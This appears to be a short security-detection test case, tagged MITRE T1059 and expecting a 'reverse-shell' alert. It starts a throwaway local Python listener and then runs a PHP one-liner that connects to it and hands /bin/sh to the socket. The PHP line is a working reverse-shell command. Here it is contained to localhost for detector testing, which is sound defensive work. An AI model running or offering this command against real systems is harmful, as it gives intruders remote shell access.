# title: php hands a socket to a shell
# technique: T1059
# expects: reverse-shell
# needs: php
python3 -c 'import socket; l=socket.socket(); l.setsockopt(1,2,1); l.bind(("127.0.0.1",4603)); l.listen(); c=l.accept()[0]; c.close()' & sleep 0.5
php -r '$s=fsockopen("127.0.0.1",4603);$p=proc_open("/bin/sh",[0=>$s,1=>$s,2=>$s],$x);proc_close($p);' || true; wait
